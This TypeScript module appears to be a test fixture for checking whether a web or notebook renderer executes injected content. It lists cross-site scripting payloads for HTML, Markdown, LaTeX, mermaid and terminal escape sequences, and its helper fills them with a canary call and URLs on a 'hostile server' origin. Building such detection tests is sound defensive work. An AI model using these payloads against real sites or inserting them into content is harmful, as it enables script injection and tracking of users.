/**
 * Texts that run code or call home when a page takes them for more than text. `RUN` stands for the code to run, `OUT`
 * for an address elsewhere.
 */

const HTML = [
  '<script>RUN</script>',
  '<img src=x onerror=RUN>',
  '<img/src=x/onerror=RUN>',
  '<img src="OUT">',
  '<img srcset="OUT 1x">',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<iframe srcdoc="<script>parent.RUN</script>"></iframe>',
  '<iframe src="javascript:parent.RUN"></iframe>',
  '<details open ontoggle=RUN><summary>x</summary></details>',
  '<input autofocus onfocus=RUN>',
  '<video><source onerror=RUN></video>',
  '<audio src="OUT" onerror=RUN>',
  '<video poster="OUT">',
  '<object data="OUT"></object>',
  '<embed src="OUT">',
  '<link rel=stylesheet href="OUT">',
  '<style>@import "OUT";</style>',
  '<div style="background:url(OUT)">x</div>',
  '<style>@keyframes a{}</style><b style="animation-name:a" onanimationstart=RUN>x</b>',
  '<meta http-equiv=refresh content="0;url=OUT">',
  '<base href="OUT/">',
  '<form action="javascript:RUN"><button autofocus>x</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=RUN>">',
  '"><img src=x onerror=RUN>',
  "' onmouseover=RUN x='",
  '" onmouseover=RUN autofocus onfocus=RUN x="',
  '</pre></code></div></details><script>RUN</script>',
  '</textarea></title></style><svg/onload=RUN>',
  '<!--><img src=x onerror=RUN>-->',
  '<a href="javascript:RUN">x</a>',
  `<button data-commandlinker-command="help:open" data-commandlinker-args='{"url":"OUT"}'>x</button>`,
  '&lt;img src=x onerror=RUN&gt;',
  '\\u003cimg src=x onerror=RUN\\u003e',
  '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><image href="OUT"/><script>RUN</script></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="OUT" onerror="RUN"/></foreignObject></svg>',
  '<svg xmlns="http://www.w3.org/2000/svg"><a href="javascript:RUN"><text y="20">x</text></a></svg>',
  'javascript:/*--></title></style></textarea></script><svg/onload=RUN//>',
]

const MARKDOWN = [
  '[x](javascript:RUN)',
  '[x](JaVaScRiPt&colon;RUN)',
  '[x](java&#9;script:RUN)',
  '[x](<javascript:RUN>)',
  '[x](data:text/html,<script>RUN</script>)',
  '[x](vbscript:RUN)',
  '[x](x "onmouseover="RUN")',
  '![x](OUT)',
  '![x](x"onerror="RUN)',
  '[x]: OUT\n\n![x]',
  '[x]: javascript:RUN\n\n[x]',
  '<javascript:RUN>',
  '[![x](OUT)](javascript:RUN)',
  '```mermaid\ngraph TD\nA["<img src=x onerror=RUN>"]\nclick A "javascript:RUN"\n```',
  '```html\n<script>RUN</script>\n```\n<img src=x onerror=RUN>',
  '```\n<script>RUN</script>',
  '~~~ "><img src=x onerror=RUN>\nx\n~~~',
  '`a\n\n<img src=x onerror=RUN>`',
  '`` ` <img src=x onerror=RUN> ` ``<img src=x onerror=RUN>',
  '- ```\n<img src=x onerror=RUN>\n  ```',
  '> ~~~\n<img src=x onerror=RUN>',
  '| a |\n|---|\n| <img src=x onerror=RUN> |',
  '$\\href{javascript:RUN}{x}$',
  '$$\\require{html}\\style{background:url(OUT)}{x}$$',
  '$<img src=x onerror=RUN>$',
  '[x](https://x/$" onmouseover=RUN x="$)',
  '\\begin{x}<img src=x onerror=RUN>\\end{x}',
  '# <svg onload=RUN>\n\n1. <svg onload=RUN>',
  '\\<img src=x onerror=RUN>\\\\<img src=x onerror=RUN>',
]

const TERMINAL = [
  '\x1b]8;;javascript:RUN\x07x\x1b]8;;\x07',
  '\x1b[31m<img src=x onerror=RUN>\x1b[0m',
  '\x1b[38;5;1"onmouseover=RUN;m<b>x',
  'https://x/"onmouseover="RUN',
  'https://x/<img/src=x/onerror=RUN>',
]

/** All payloads. */
export const PAYLOADS: readonly string[] = [...HTML, ...MARKDOWN, ...TERMINAL]

/**
 * Makes the payloads of one way into the page.
 *
 * @param route - Number of the way; what runs says `route * 1000 + index of the payload`.
 * @param origin - Origin of the hostile server.
 */
export function payloadsFor(route: number, origin: string): string[] {
  return PAYLOADS.map((payload, index) => {
    const id = route * 1000 + index
    return payload.replaceAll('RUN', `pwned(${id})`).replaceAll('OUT', `${origin}/out/${id}`)
  })
}
